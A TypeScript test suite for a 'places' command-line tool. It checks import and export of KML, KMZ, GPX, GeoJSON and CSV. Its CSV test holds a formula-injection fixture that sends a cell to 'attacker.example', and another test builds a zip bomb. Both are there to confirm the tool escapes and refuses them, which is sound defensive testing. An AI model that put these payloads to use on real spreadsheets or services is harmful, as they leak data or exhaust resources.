import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { zipSync } from 'fflate'
import { contentText } from '../../lib/content/html'
import { htmlFromText } from '../../lib/content/text-html'
import { places as placesIn, placesProcess, type Run } from '../support/cli'
import { createTestDatabase, databaseKinds, type TestDatabase } from '../support/databases'

// `places import` of KML, KMZ, GPX and CSV, and `places export --format`, as operators run them, on real databases:
// each format's round trip (export, then import into an empty site) keeps every field the format can hold.

/** `places ARGS` on the database at `url` (test/support/cli.ts). */
function places(url: string, ...args: string[]): Promise<Run> {
  return placesIn({ ...process.env, DATABASE_URL: url, SITE_URL: 'http://places.test' }, ...args)
}

/** `node bin/places.mjs ARGS` in a process of its own, as `npx places` runs, with `env` added to its environment. */
function placesWith(env: Record<string, string>, url: string, ...args: string[]): Run {
  return placesProcess({ ...process.env, DATABASE_URL: url, SITE_URL: 'http://places.test', ...env }, args)
}

function ok(run: Run): string {
  assert.equal(run.status, 0, `exit ${run.status}: ${run.stderr}`)
  return run.stdout
}

const dir = mkdtempSync(path.join(tmpdir(), 'places-formats-'))
after(() => rmSync(dir, { recursive: true, force: true }))

function file(name: string, content: string | Uint8Array): string {
  const target = path.join(dir, name)
  writeFileSync(target, content)
  return target
}

type Properties = {
  id: number
  title: string
  content: string
  excerpt?: string
  slug: string
  type: string
  date: string
  address: string
  categories: string[]
}
type Feature = { geometry: { coordinates: number[] } | null; properties: Properties }

const exported = async (url: string, ...args: string[]): Promise<Feature[]> =>
  (JSON.parse(ok(await places(url, 'export', ...args))) as { features: Feature[] }).features

const feature = (geometry: [number, number] | null, properties: Partial<Properties> & { geo_public?: boolean }) => ({
  type: 'Feature',
  geometry: geometry && { type: 'Point', coordinates: geometry },
  properties,
})

// What tries each format: markup and entities, quotes, both delimiters, a carriage return, line breaks and spaces at
// either end, characters beyond the BMP, many decimals, categories nested and several, a post without a location.
const SITE = {
  type: 'FeatureCollection',
  features: [
    feature([2.2944813, 48.8583701], {
      title: 'Tour "Eiffel" & <friends>',
      content: '<p>Line one;\r\nline, two</p>\n  <b>bold</b> &amp; “quoted” 🗼  \n',
      excerpt: 'Iron, "lady"; 1889',
      slug: 'tour-eiffel',
      type: 'landmark',
      date: '2021-06-01T08:30:15.250Z',
      address: "Champ de Mars, 5 Av. Anatole France; 75007 Paris, it's",
      categories: ['Europe > France > Paris', 'Landmarks'],
    }),
    feature([-157.8271, 21.2793], { title: 'Waikīkī', content: 'Plain text', slug: 'waikiki', date: '2020-01-02T00:00:00.000Z', categories: ['Beaches'] }),
    feature([-0.000001, -89.9999999], { title: 'Near the pole', content: '', slug: 'pole', date: '2019-12-31T23:59:59.000Z' }),
    feature(null, { title: 'Nowhere in particular', content: 'No location', slug: 'nowhere', date: '2018-05-05T05:05:05.000Z', address: 'Somewhere' }),
  ],
}

/** The fields each format holds, of a feature as `places export` writes it. */
const HELD: Record<string, (f: Feature) => unknown> = {
  geojson: (f) => f,
  // KML has no place for an excerpt.
  kml: ({ geometry, properties: { id: _, excerpt: __, ...rest } }) => ({ geometry, properties: rest }),
  csv: ({ geometry, properties: { id: _, ...rest } }) => ({ geometry, properties: rest }),
  // GPX's desc holds the content's text: it comes back as that text's HTML.
  gpx: ({ geometry, properties: p }) => ({ geometry, properties: { title: p.title, content: htmlFromText(contentText(p.content)), date: p.date } }),
}

/** GPX has no place for a post without a point. */
const inFormat = (format: string, features: Feature[]) => (format === 'gpx' ? features.filter((f) => f.geometry) : features)

const byTitle = (a: Feature, b: Feature) => a.properties.title.localeCompare(b.properties.title)

/** A map of many places, as My Maps writes one (KML, in folders) and as a GPS does (GPX waypoints). */
function manyPlaces(format: 'kml' | 'gpx', count: number): string {
  const places = Array.from({ length: count }, (_, i) => ({ i, lat: ((i * 7) % 170) - 85 + 0.123456, lon: ((i * 13) % 350) - 175 + 0.654321 }))
  if (format === 'gpx') {
    const waypoints = places.map(
      ({ i, lat, lon }) =>
        `<wpt lat="${lat}" lon="${lon}"><ele>${i % 3000}</ele><time>2024-05-01T12:00:00Z</time><name>Place ${i}</name>` +
        `<cmt>Seen from the road</cmt><desc>Notes on place ${i}, kept.</desc><sym>Flag, Blue</sym><type>user</type></wpt>`,
    )
    return `<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="test" xmlns="http://www.topografix.com/GPX/1/1">\n${waypoints.join('\n')}\n</gpx>\n`
  }
  const placemarks = places.map(
    ({ i, lat, lon }) =>
      `${i % 1000 === 0 ? `${i > 0 ? '</Folder>' : ''}<Folder><name>Part ${i / 1000}</name>` : ''}<Placemark><name>Place ${i}</name><address>${i} Main Street</address>` +
      `<description><![CDATA[<p>Notes on place ${i}, <b>kept</b>.</p>]]></description><styleUrl>#icon-1899</styleUrl><Point><coordinates>${lon},${lat},0</coordinates></Point></Placemark>`,
  )
  return `<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Many</name>\n${placemarks.join('\n')}</Folder></Document></kml>\n`
}

for (const kind of databaseKinds) {
  describe(`formats on ${kind}`, () => {
    let site: TestDatabase
    const admin = ['user', 'create', '--email', 'admin@example.org', '--password', 'long enough', '--role', 'administrator']

    before(async () => {
      site = await createTestDatabase(kind)
      ok(await places(site.url, ...admin))
      ok(await places(site.url, 'import', file(`site-${kind}.geojson`, JSON.stringify(SITE))))
    })
    after(() => site.drop())

    for (const format of ['geojson', 'kml', 'gpx', 'csv']) {
      test(`${format}: export, then import into an empty site, keeps every field ${format} holds`, async () => {
        const original = (await exported(site.url)).sort(byTitle)
        const written = ok(await places(site.url, 'export', '--format', format))
        const copy = await createTestDatabase(kind)
        try {
          ok(await places(copy.url, ...admin))
          const dryRun = ok(await places(copy.url, 'import', '--dry-run', file(`round-${kind}.${format}`, written)))
          assert.match(dryRun, /Dry run: nothing was written\./)
          assert.deepEqual(await exported(copy.url), [], 'a dry run writes nothing')
          const ids = ok(await places(copy.url, 'import', file(`round-${kind}.${format}`, written)))
            .trim()
            .split('\n')
          assert.equal(ids.length, inFormat(format, original).length)
          const copied = (await exported(copy.url)).sort(byTitle)
          assert.deepEqual(copied.map(HELD[format]!), inFormat(format, original).map(HELD[format]!))
        } finally {
          await copy.drop()
        }
      })
    }

    test('GDAL reads every exported file: the same places, titles and points', async () => {
      const original = (await exported(site.url)).sort(byTitle)
      for (const format of ['kml', 'gpx', 'csv']) {
        const target = file(`gdal-${kind}.${format}`, ok(await places(site.url, 'export', '--format', format)))
        const options = {
          csv: ['-oo', 'X_POSSIBLE_NAMES=longitude', '-oo', 'Y_POSSIBLE_NAMES=latitude', '-oo', 'KEEP_GEOM_COLUMNS=NO'],
          gpx: ['waypoints'],
          kml: [],
        }[format]!
        const run = spawnSync('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', target, ...options], { encoding: 'utf8' })
        assert.equal(run.status, 0, run.stderr)
        const read = (JSON.parse(run.stdout) as { features: { geometry: { coordinates: number[] } | null; properties: Record<string, unknown> }[] }).features
        const titles = read.map((f) => String(f.properties.Name ?? f.properties.name ?? f.properties.title)).sort((a, b) => a.localeCompare(b))
        assert.deepEqual(
          titles,
          inFormat(format, original).map((f) => f.properties.title),
          format,
        )
        const points = read.flatMap((f) => (f.geometry ? [f.geometry.coordinates.slice(0, 2).join(',')] : [])).sort()
        assert.deepEqual(points, original.flatMap((f) => (f.geometry ? [f.geometry.coordinates.join(',')] : [])).sort(), format)
      }
    })

    test('KMZ from Google My Maps: folders are categories, lines a trip; a dry run names what it would take', async () => {
      const kml = `<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Trip</name>
<Folder><name>Food</name>
<Placemark><name>Café &amp; bar</name><description><![CDATA[<p>Good <b>coffee</b></p>]]></description><Point><coordinates>2.35,48.85,0</coordinates></Point></Placemark>
<Placemark><name>Walk</name><LineString><coordinates>2.35,48.85 2.36,48.86</coordinates></LineString></Placemark>
</Folder></Document></kml>`
      const copy = await createTestDatabase(kind)
      try {
        ok(await places(copy.url, ...admin))
        const kmz = file(`trip-${kind}.kmz`, zipSync({ 'doc.kml': Buffer.from(kml), 'images/icon.png': new Uint8Array([137, 80]) }))
        const dry = await places(copy.url, 'import', kmz, '--dry-run')
        assert.equal(dry.status, 0, dry.stderr)
        assert.equal(dry.stdout, 'Would import 1 placemark from KMZ, and 1 line as the trip “Walk” (/trip/walk).\nDry run: nothing was written.\n')
        assert.equal(dry.stderr, '')
        const done = await places(copy.url, 'import', kmz)
        assert.equal(done.status, 0, done.stderr)
        assert.match(done.stderr, /^Imported 1 placemark from KMZ, and 1 line as the trip “Walk” \(\/trip\/walk\)\.$/m)
        const [cafe] = await exported(copy.url)
        assert.deepEqual([cafe?.properties.title, cafe?.properties.content, cafe?.properties.categories], ['Café & bar', '<p>Good <b>coffee</b></p>', ['Food']])
      } finally {
        await copy.drop()
      }
    })

    test('CSV: text a spreadsheet would run is exported behind a quote, numbers as they are, and imported back as it was', async () => {
      const formulas = {
        type: 'FeatureCollection',
        features: [
          feature([-70.6, -33.45], {
            title: '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
            content: '+1 555 0100',
            address: '@SUM(A1:A9)',
            slug: 'formula',
            date: '2022-02-02T00:00:00.000Z',
            categories: ['-Minus > Sub', '=Equals'],
          }),
          // A title that begins with a quote before a formula character is one a spreadsheet shows as text already.
          feature([151.2, -33.8], {
            title: "'=quoted already",
            content: '\tindented\r\nthen a return',
            address: "''-2",
            slug: 'quoted',
            date: '2022-02-03T00:00:00.000Z',
          }),
          feature(null, { title: '-5 degrees', content: '\ra return first', slug: 'minus', date: '2022-02-04T00:00:00.000Z' }),
        ],
      }
      const [source, copy] = [await createTestDatabase(kind), await createTestDatabase(kind)]
      try {
        ok(await places(source.url, ...admin))
        ok(await places(source.url, 'import', file(`formulas-${kind}.geojson`, JSON.stringify(formulas))))
        const csv = ok(await places(source.url, 'export', '--format', 'csv'))
        const [header, ...rows] = parse(csv)
        const numbers = new Set(['id', 'latitude', 'longitude'].map((name) => header!.indexOf(name)))
        for (const row of rows) {
          for (const [index, value] of row.entries()) {
            if (!numbers.has(index)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${header![index]}: ${JSON.stringify(value)}`)
          }
        }
        const cell = (slug: string, name: string) => rows.find((row) => row[header!.indexOf('slug')] === slug)![header!.indexOf(name)]
        assert.equal(cell('formula', 'title'), `'=HYPERLINK("http://attacker.example/?leak="&A2,"Open")`)
        assert.deepEqual([cell('formula', 'latitude'), cell('formula', 'longitude')], ['-33.45', '-70.6'], 'numbers are not escaped')
        assert.equal(cell('quoted', 'title'), "''=quoted already")

        ok(await places(copy.url, ...admin))
        ok(await places(copy.url, 'import', file(`formulas-${kind}.csv`, csv)))
        assert.deepEqual((await exported(copy.url)).sort(byTitle).map(HELD.csv!), (await exported(source.url)).sort(byTitle).map(HELD.csv!))
      } finally {
        await Promise.all([source.drop(), copy.drop()])
      }
    })

    test('KML, KMZ and GPX are read as streams: in a small heap, a large file is read and a zip bomb refused', async () => {
      const copy = await createTestDatabase(kind)
      try {
        ok(await places(copy.url, ...admin))
        // A heap far smaller than a DOM of these files: the readers that built one died in it; one placemark at a time fits.
        const smallHeap = { NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --max-old-space-size=64` }
        for (const format of ['kml', 'gpx'] as const) {
          const text = manyPlaces(format, 20_000)
          assert.ok(text.length > 4 * 1024 * 1024, `${format}: ${text.length} bytes`)
          const dry = placesWith(smallHeap, copy.url, 'import', '--dry-run', file(`many-${kind}.${format}`, text))
          assert.equal(dry.status, 0, dry.stderr)
          assert.equal(dry.stdout, `Would import 20000 ${format === 'kml' ? 'placemarks from KML' : 'waypoints from GPX'}.\nDry run: nothing was written.\n`)
        }
        // A few KB that unpack to megabytes of empty placemarks: refused once past the ratio, before it is all unpacked.
        const bomb = zipSync({ 'doc.kml': Buffer.from(`<kml><Document>${'<Placemark/>'.repeat(400_000)}</Document></kml>`) }, { level: 9 })
        assert.ok(bomb.length < 16 * 1024, `${bomb.length} bytes`)
        const refused = placesWith(smallHeap, copy.url, 'import', '--dry-run', file(`bomb-${kind}.kmz`, bomb))
        assert.equal(refused.status, 1, refused.stderr)
        assert.match(
          refused.stderr,
          /^places import: Nothing was imported:\ndoc\.kml in the KMZ unpacks to more than 100 times its compressed size \([\d,]+ bytes\), as a zip bomb does and no map: if you trust the file, unzip it and import its KML, which is read as a stream, whatever its size\n$/,
        )
        assert.deepEqual(await exported(copy.url), [])
      } finally {
        await copy.drop()
      }
    })

    test('CSV: a refused row imports nothing and is named by its line; a spreadsheet of semicolons and decimal commas is read', async () => {
      const copy = await createTestDatabase(kind)
      try {
        ok(await places(copy.url, ...admin))
        const bad = await places(copy.url, 'import', file(`bad-${kind}.csv`, 'name,lat,lon\nGood,1,2\n"Two\nlines",north,2\n,3,4\n'))
        assert.equal(bad.status, 1)
        assert.equal(
          bad.stderr,
          'places import: Nothing was imported:\nline 3: latitude: "north" is not a decimal number\nline 5: properties.title: is required\n',
        )
        assert.deepEqual(await exported(copy.url), [])
        const ids = ok(
          await places(copy.url, 'import', file(`good-${kind}.csv`, 'Name;Breite;Latitude;Longitude;Category\nA;x;48,5;-2,25;Food > Cafés\n')),
        ).trim()
        assert.match(ids, /^\d+$/)
        const [a] = await exported(copy.url)
        assert.deepEqual([a?.geometry?.coordinates, a?.properties.categories], [[-2.25, 48.5], ['Food > Cafés']])
      } finally {
        await copy.drop()
      }
    })

    test('CSV: --columns names the columns a German spreadsheet calls otherwise; a name that is no column or no field is refused', async () => {
      const copy = await createTestDatabase(kind)
      try {
        ok(await places(copy.url, ...admin))
        // As Excel saves it in Germany: Windows-1252, semicolons, decimal commas.
        const german = file(
          `german-${kind}.csv`,
          Buffer.from('Titel;Breitengrad;Längengrad;Adresse;Datum\r\nKölner Dom;50,9413;6,9583;Domkloster 4, Köln;2024-05-01\r\n', 'latin1'),
        )
        const unmapped = await places(copy.url, 'import', german)
        assert.equal(unmapped.status, 1)
        assert.match(unmapped.stderr, /line 1: no latitude and longitude columns in the header \(Titel, Breitengrad, Längengrad, Adresse, Datum\)/)
        assert.match(unmapped.stderr, /line 1: no title column in the header/)

        const columns = '--columns=title=Titel,latitude=Breitengrad,longitude=längengrad,address=Adresse,date=Datum'
        const missing = await places(copy.url, 'import', german, '--columns=title=Titel,latitude=Breite,longitude=Längengrad')
        assert.equal(missing.status, 1)
        assert.match(missing.stderr, /line 1: the latitude column "Breite" is not in the header \(Titel, Breitengrad, Längengrad, Adresse, Datum\)/)
        for (const [flag, message] of [
          ['--columns=titel=Titel', /--columns: "titel" is not a field; the fields are latitude, longitude, title, content/],
          ['--columns=title=', /--columns: title needs a column's header after "="/],
          ['--columns=title=A,title=B', /--columns: title is given twice/],
        ] as const) {
          const run = await places(copy.url, 'import', german, flag)
          assert.equal(run.status, 2, flag)
          assert.match(run.stderr, message)
        }
        const kml = await places(copy.url, 'import', file(`columns-${kind}.kml`, '<kml><Document></Document></kml>'), '--columns=title=Name')
        assert.equal(kml.status, 1)
        assert.match(kml.stderr, /it is KML, and columns are named for CSV files only/)
        assert.deepEqual(await exported(copy.url), [], 'nothing imported by the refused runs')

        ok(await places(copy.url, 'import', german, columns))
        const [dom] = await exported(copy.url)
        assert.deepEqual(
          [dom?.properties.title, dom?.geometry?.coordinates, dom?.properties.address, dom?.properties.date],
          ['Kölner Dom', [6.9583, 50.9413], 'Domkloster 4, Köln', '2024-05-01T00:00:00.000Z'],
        )
      } finally {
        await copy.drop()
      }
    })
  })
}
